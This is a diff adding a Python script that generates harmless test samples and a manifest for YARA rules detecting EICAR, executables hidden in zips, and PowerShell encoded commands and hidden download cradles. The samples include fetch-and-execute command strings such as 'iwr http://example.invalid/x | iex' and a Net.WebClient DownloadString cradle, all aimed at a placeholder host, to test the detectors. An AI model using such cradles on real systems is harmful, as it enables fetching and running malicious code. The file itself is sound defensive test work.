@@ -1,0 +1,353 @@
+#!/usr/bin/env python3
+"""Generate harmless positive/negative samples for the bundled YARA rules.
+
+Usage: make_samples.py OUTDIR
+
+Writes the samples into OUTDIR plus OUTDIR/manifest.json, a list of
+    {"sample": file name in OUTDIR,
+     "rule": rule name,
+     "expect": true if the rule must match, false if it must not,
+     "depth": depth of the node the rule must (not) match: 0 = the file itself,
+              1 = the single member of a zip,
+     "wrap": "none" | "zip",
+     "member": name of the zip member (wrapped samples only),
+     "filetype": what the scanner's sniffer would report for the node; only a
+                 hint for test_rules.py --yara, the rules do not rely on it}
+
+A depth-1 sample is always a zip holding exactly one member: the executable
+rules only fire on nodes found inside a container (depth > 0).
+
+Every sample is built here, at test time, from harmless bytes.  In particular
+the EICAR test string never appears literally in the repository: it is joined
+from two halves below.
+"""
+
+import base64
+import json
+import os
+import struct
+import sys
+import zipfile
+
+# The EICAR test string, split so no source file contains it contiguously.
+_EICAR_HEAD = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$"
+_EICAR_TAIL = "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
+
+
+def eicar() -> bytes:
+    data = (_EICAR_HEAD + _EICAR_TAIL).encode("ascii")
+    assert len(data) == 68
+    return data
+
+
+# ---------------------------------------------------------------------------
+# Minimal executable headers (just enough structure for the rules; they do
+# not run anywhere).
+
+def pe_image(e_lfanew: int = 0x80, signature: bytes = b"PE\0\0",
+             truncate_after_sig: bool = False) -> bytes:
+    """MZ header + DOS stub text + PE signature + COFF file header."""
+    dos = bytearray(0x40)
+    dos[0:2] = b"MZ"
+    struct.pack_into("<I", dos, 0x3C, e_lfanew)
+    stub = b"This program cannot be run in DOS mode.\r\r\n$"
+    img = bytes(dos) + stub
+    if e_lfanew < len(img) or e_lfanew > 0x1000:
+        # pointer deliberately out of range: just pad to a plausible size
+        return img.ljust(0x200, b"\0")
+    img = img.ljust(e_lfanew, b"\0") + signature
+    if truncate_after_sig:
+        return img
+    # IMAGE_FILE_HEADER: i386, no sections, no optional header, EXECUTABLE_IMAGE
+    img += struct.pack("<HHIIIHH", 0x014C, 0, 0, 0, 0, 0, 0x0002)
+    return img.ljust(0x200, b"\0")
+
+
+def elf_image(bits: int = 64, little: bool = True) -> bytes:
+    """ELF identification + header fields of an ET_EXEC for x86(-64)/PPC."""
+    e = "<" if little else ">"
+    ident = b"\x7fELF" + bytes([2 if bits == 64 else 1, 1 if little else 2, 1])
+    ident = ident.ljust(16, b"\0")
+    if bits == 64:
+        # e_type, e_machine, e_version, e_entry, e_phoff, e_shoff, e_flags,
+        # e_ehsize, e_phentsize, e_phnum, e_shentsize, e_shnum, e_shstrndx
+        hdr = struct.pack(e + "HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0,
+                          64, 56, 0, 64, 0, 0)
+    else:
+        hdr = struct.pack(e + "HHIIIIIHHHHHH", 2, 0x14, 1, 0x10000, 52, 0, 0,
+                          52, 32, 0, 40, 0, 0)
+    return (ident + hdr).ljust(128, b"\0")
+
+
+def macho_image(magic_bytes: bytes) -> bytes:
+    """mach_header(_64) with the given 4 magic bytes as they appear on disk."""
+    little = magic_bytes in (b"\xce\xfa\xed\xfe", b"\xcf\xfa\xed\xfe")
+    is64 = magic_bytes in (b"\xfe\xed\xfa\xcf", b"\xcf\xfa\xed\xfe")
+    e = "<" if little else ">"
+    cputype = 0x01000007 if is64 else 7            # x86_64 / i386
+    # cputype, cpusubtype, filetype=MH_EXECUTE, ncmds, sizeofcmds, flags
+    hdr = magic_bytes + struct.pack(e + "iiIIII", cputype, 3, 2, 0, 0, 0)
+    if is64:
+        hdr += b"\0\0\0\0"                          # reserved
+    return hdr.ljust(256, b"\0")
+
+
+def fat_image(magic: int = 0xCAFEBABE, nfat: int = 2,
+              truncate: bool = False) -> bytes:
+    """Universal binary header: big-endian fat_header + fat_arch table."""
+    out = struct.pack(">II", magic, nfat)
+    if truncate:
+        return out + b"\0" * 4      # claims nfat entries but holds none
+    for i in range(nfat):
+        if magic == 0xCAFEBABF:     # fat_arch_64: cpu, sub, off64, size64, align, reserved
+            out += struct.pack(">iiQQII", 0x01000007, 3, 0x1000 * (i + 1), 256, 12, 0)
+        else:                       # fat_arch: cpu, sub, off, size, align
+            out += struct.pack(">iiIII", 7 if i == 0 else 0x01000007, 3,
+                               0x1000 * (i + 1), 256, 12)
+    return out.ljust(512, b"\0")
+
+
+def java_class() -> bytes:
+    """Java class file header: same 0xCAFEBABE magic, then version 52.0."""
+    # magic, minor 0, major 52 (Java 8), constant_pool_count 1, access flags...
+    return (struct.pack(">IHHH", 0xCAFEBABE, 0, 52, 1)
+            + struct.pack(">HHHHHHH", 0x21, 0, 0, 0, 0, 0, 0)).ljust(64, b"\0")
+
+
+# ---------------------------------------------------------------------------
+# PowerShell helpers
+
+def ps_b64(script: str) -> str:
+    """What powershell -EncodedCommand expects: base64 of UTF-16LE text."""
+    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")
+
+
+ENC_BENIGN = ps_b64("Write-Output 'Sekisho rule test'; Get-Date")
+CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a.ps1')"
+
+
+# ---------------------------------------------------------------------------
+
+class Samples:
+    def __init__(self, outdir: str):
+        self.outdir = outdir
+        self.manifest = []
+
+    def add(self, name: str, data: bytes, expects: dict, *,
+            wrap: str = "none", member: str = None, filetype: str = "data"):
+        """Write one sample; expects maps rule name -> bool."""
+        path = os.path.join(self.outdir, name)
+        entry_extra = {}
+        if wrap == "zip":
+            assert member, "wrapped samples need a member name"
+            with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
+                zf.writestr(member, data)
+            depth = 1
+            entry_extra["member"] = member
+        else:
+            assert wrap == "none"
+            with open(path, "wb") as f:
+                f.write(data)
+            depth = 0
+        for rule, expect in expects.items():
+            entry = {"sample": name, "rule": rule, "expect": bool(expect),
+                     "depth": depth, "wrap": wrap}
+            entry.update(entry_extra)
+            entry["filetype"] = filetype
+            self.manifest.append(entry)
+
+    def write_manifest(self):
+        with open(os.path.join(self.outdir, "manifest.json"), "w") as f:
+            json.dump(self.manifest, f, indent=1)
+            f.write("\n")
+
+
+def eicar_samples(s: Samples):
+    r = "EICAR_Test_File"
+    e = eicar()
+    s.add("eicar.com", e, {r: True}, filetype="text")
+    s.add("eicar_crlf.txt", e + b"\r\n", {r: True}, filetype="text")
+    # every allowed whitespace byte, padded to exactly 128 bytes
+    ws = (b" \t\r\n\x1a" * 20)[:60]
+    s.add("eicar_ws_128.txt", e + ws, {r: True}, filetype="text")
+    s.add("eicar_in_zip.zip", e, {r: True}, wrap="zip", member="eicar.com",
+          filetype="text")
+    # negatives
+    s.add("eicar_ws_129.txt", e + ws + b" ", {r: False}, filetype="text")
+    s.add("eicar_junk_long.txt", e + b"\r\n" + b"junk " * 40, {r: False},
+          filetype="text")
+    s.add("eicar_trailing_text.txt", e + b" not whitespace", {r: False},
+          filetype="text")
+    s.add("eicar_offset.txt", b"Note: " + e, {r: False}, filetype="text")
+    s.add("eicar_truncated.txt", e[:-1], {r: False}, filetype="text")
+
+
+def executable_samples(s: Samples):
+    PE, ELF, MACHO = ("Executable_PE_In_Container", "Executable_ELF_In_Container",
+                      "Executable_MachO_In_Container")
+
+    # --- PE
+    s.add("pe_in_zip.zip", pe_image(), {PE: True, ELF: False, MACHO: False},
+          wrap="zip", member="invoice.exe", filetype="pe")
+    # same executable, renamed: detection is by content
+    s.add("pe_renamed_in_zip.zip", pe_image(e_lfanew=0xE8), {PE: True},
+          wrap="zip", member="invoice.pdf", filetype="pe")
+    s.add("pe_toplevel.exe", pe_image(), {PE: False}, filetype="pe")
+    s.add("mz_text_in_zip.zip",
+          b"MZ is the signature of DOS executables; this file is only a note "
+          b"about that and is not an executable at all.\n",
+          {PE: False}, wrap="zip", member="notes.txt", filetype="text")
+    s.add("pe_bad_lfanew_in_zip.zip", pe_image(e_lfanew=0x7FFFFFF0), {PE: False},
+          wrap="zip", member="bad.exe", filetype="data")
+    s.add("pe_ne_in_zip.zip", pe_image(signature=b"NE\0\0"), {PE: False},
+          wrap="zip", member="old.exe", filetype="data")
+    s.add("pe_truncated_in_zip.zip", pe_image(truncate_after_sig=True),
+          {PE: False}, wrap="zip", member="trunc.exe", filetype="data")
+
+    # --- ELF
+    s.add("elf64_in_zip.zip", elf_image(64, True), {ELF: True, PE: False, MACHO: False},
+          wrap="zip", member="update", filetype="elf")
+    s.add("elf32be_in_zip.zip", elf_image(32, False), {ELF: True},
+          wrap="zip", member="payload.bin", filetype="elf")
+    s.add("elf_toplevel", elf_image(), {ELF: False}, filetype="elf")
+    s.add("elf_text_in_zip.zip",
+          b"\x7fELF is how ELF files start; this text is not one of them.\n",
+          {ELF: False}, wrap="zip", member="elf.txt", filetype="data")
+
+    # --- Mach-O: the four thin magics and both fat magics
+    thin = [("feedface", b"\xfe\xed\xfa\xce"), ("feedfacf", b"\xfe\xed\xfa\xcf"),
+            ("cefaedfe", b"\xce\xfa\xed\xfe"), ("cffaedfe", b"\xcf\xfa\xed\xfe")]
+    for label, magic in thin:
+        expects = {MACHO: True}
+        if label == "cffaedfe":
+            expects.update({PE: False, ELF: False})
+        s.add(f"macho_{label}_in_zip.zip", macho_image(magic), expects,
+              wrap="zip", member="app", filetype="macho")
+    s.add("macho_fat_in_zip.zip", fat_image(0xCAFEBABE), {MACHO: True},
+          wrap="zip", member="Installer", filetype="macho")
+    s.add("macho_fat64_in_zip.zip", fat_image(0xCAFEBABF), {MACHO: True},
+          wrap="zip", member="Installer64", filetype="macho")
+    s.add("macho_toplevel", macho_image(b"\xcf\xfa\xed\xfe"), {MACHO: False},
+          filetype="macho")
+    s.add("java_class_in_zip.zip", java_class(), {MACHO: False},
+          wrap="zip", member="Main.class", filetype="data")
+    s.add("macho_fat_truncated_in_zip.zip", fat_image(nfat=2, truncate=True),
+          {MACHO: False}, wrap="zip", member="broken", filetype="data")
+
+
+def powershell_samples(s: Samples):
+    ENC, B64, CRD = ("PowerShell_EncodedCommand",
+                     "PowerShell_Base64_Encoded_Directives",
+                     "PowerShell_Hidden_Download_Cradle")
+
+    def text(name, content, expects, encoding="utf-8"):
+        s.add(name, content.encode(encoding), expects, filetype="text")
+
+    # --- PowerShell_EncodedCommand
+    text("ps_enc_basic.bat",
+         f"@echo off\r\npowershell.exe -NoProfile -enc {ENC_BENIGN}\r\n",
+         {ENC: True, B64: False, CRD: False})
+    text("ps_enc_full.cmd", f"PWSH -EncodedCommand {ENC_BENIGN}\r\n", {ENC: True})
+    text("ps_enc_slash_e.txt", f"powershell /e {ENC_BENIGN}\n", {ENC: True})
+    text("ps_enc_quoted_ec.lnk.txt",
+         f'"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" '
+         f'-nop -w hidden -ec "{ENC_BENIGN}"\n', {ENC: True})
+    text("ps_enc_prefix_encodedc.txt",
+         f"powershell -NonInteractive -EnCodedC {ENC_BENIGN}\n", {ENC: True})
+    text("ps_enc_endash.txt", f"powershell \u2013enc {ENC_BENIGN}\n", {ENC: True})
+    text("ps_enc_utf16.ps1", f"\ufeffpowershell -encodedcommand {ENC_BENIGN}\r\n",
+         {ENC: True}, encoding="utf-16-le")
+    # negatives
+    text("ps_enc_howto.txt",
+         "To run a script non-interactively, call powershell -EncodedCommand "
+         "followed by a base64 string of the UTF-16LE script text.\n",
+         {ENC: False})
+    text("ps_execpolicy.bat",
+         "powershell -ExecutionPolicy Bypass -File C:\\scripts\\backup_maintenance_job.ps1\r\n",
+         {ENC: False})
+    text("ps_enc_other_tool.txt",
+         "tool.exe -enc SGVsbG8gV29ybGQgdGhpcyBpcyBiYXNlNjQ=\n", {ENC: False})
+    text("ps_enc_blob_next_line.txt",
+         f"powershell -enc\n{ENC_BENIGN}\n", {ENC: False})
+
+    # --- PowerShell_Base64_Encoded_Directives
+    # two directives (IEX + Net.WebClient + DownloadString), no launcher needed
+    text("ps_b64_cradle.txt", ps_b64(CRADLE) + "\n", {B64: True, ENC: False})
+    # one strong directive + a launcher; 0/1/2-character prefixes put the
+    # directive at each of the three base64 alignments
+    for pad in ("", "a", "ab"):
+        text(f"ps_b64_single_align{len(pad)}.txt",
+             "Run with powershell:\n" + ps_b64(pad + "Invoke-Expression $payload") + "\n",
+             {B64: True})
+    text("ps_b64_fromb64_startproc.txt",
+         ps_b64("$b=[Convert]::FromBase64String($d); Start-Process $exe") + "\n",
+         {B64: True})
+    # negatives
+    text("ps_b64_benign.txt", "powershell payload:\n" + ENC_BENIGN + "\n", {B64: False})
+    text("ps_b64_ascii.txt",
+         "powershell\n" + base64.b64encode(CRADLE.encode()).decode() + "\n",
+         {B64: False})
+    text("ps_b64_plaintext.txt", "powershell -c \"" + CRADLE + "\"\n",
+         {B64: False})
+    text("ps_b64_single_weak.txt",
+         "powershell\n" + ps_b64("Start-Process notepad.exe") + "\n", {B64: False})
+    text("ps_b64_single_no_launcher.txt",
+         ps_b64("Invoke-Expression $payload") + "\n", {B64: False})
+
+    # --- PowerShell_Hidden_Download_Cradle
+    text("ps_cradle_hidden.bat", f'powershell -nop -w hidden -c "{CRADLE}"\r\n',
+         {CRD: True, ENC: False})
+    text("ps_cradle_flags.cmd",
+         "pwsh -NoProfile -NonInteractive -ExecutionPolicy Bypass -Command "
+         "\"Invoke-WebRequest -Uri http://example.invalid/x -OutFile $env:TEMP\\x.exe\"\r\n",
+         {CRD: True})
+    text("ps_cradle_utf16.ps1",
+         "\ufeffpowershell.exe -WindowStyle Hidden -Command "
+         "\"iwr http://example.invalid/x | iex\"\r\n",
+         {CRD: True}, encoding="utf-16-le")
+    text("ps_cradle_w1.txt",
+         "powershell -w 1 -c \"Start-BitsTransfer http://example.invalid/x $env:TEMP\\x\"\n",
+         {CRD: True})
+    # negatives
+    text("ps_cradle_no_download.bat",
+         "powershell -nop -w hidden -File C:\\scripts\\nightly_backup.ps1\r\n",
+         {CRD: False})
+    text("ps_cradle_no_flags.bat",
+         "powershell -Command \"Invoke-WebRequest -Uri https://example.invalid/report.csv "
+         "-OutFile report.csv\"\r\n", {CRD: False})
+    text("ps_cradle_one_flag.bat",
+         "powershell -NoProfile -Command \"(New-Object Net.WebClient).DownloadFile("
+         "'https://example.invalid/report.csv', 'report.csv')\"\r\n", {CRD: False})
+    text("ps_cradle_no_launcher.txt",
+         "The -nop and -w hidden flags hide the console window; DownloadString "
+         "then fetches the next stage.\n", {CRD: False})
+    # the words are all there, but scattered over an unrelated text (as in
+    # big logs or package lists): the flags are not on a launcher line
+    text("ps_cradle_scattered.txt",
+         "pkg-a\tWrapper around PowerShell for CI\n"
+         "pkg-b\tcompiler option -nop disables the prelude\n"
+         "pkg-c\trun tests with -noninteractive\n"
+         "pkg-d\tdownloadfile helper for node\n", {CRD: False})
+    text("ps_mention.txt",
+         "Please open PowerShell and run Get-Help about_Execution_Policies.\n",
+         {ENC: False, B64: False, CRD: False})
+
+
+def main(argv):
+    if len(argv) != 2:
+        print(f"usage: {argv[0]} OUTDIR", file=sys.stderr)
+        return 2
+    outdir = argv[1]
+    os.makedirs(outdir, exist_ok=True)
+    s = Samples(outdir)
+    eicar_samples(s)
+    executable_samples(s)
+    powershell_samples(s)
+    s.write_manifest()
+    nsamples = len({e["sample"] for e in s.manifest})
+    print(f"wrote {nsamples} samples, {len(s.manifest)} manifest entries to {outdir}")
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main(sys.argv))
